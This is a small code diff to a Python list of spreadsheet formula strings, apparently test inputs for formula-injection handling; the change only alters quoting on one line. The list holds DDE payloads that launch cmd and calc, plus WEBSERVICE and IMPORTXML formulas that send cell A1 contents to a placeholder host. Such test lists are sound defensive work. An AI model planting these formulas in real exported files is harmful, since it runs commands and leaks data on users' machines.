@@ -23,7 +23,7 @@ FORMULAS = (
     "=cmd|' /C calc'!A0",
     '=DDE("cmd";"/C calc";"x")',
     '=WEBSERVICE("http://example.org/"&A1)',
-    "=IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")',
     "{=SUM(1)}",
     "'=quoted",
     "#N/A",
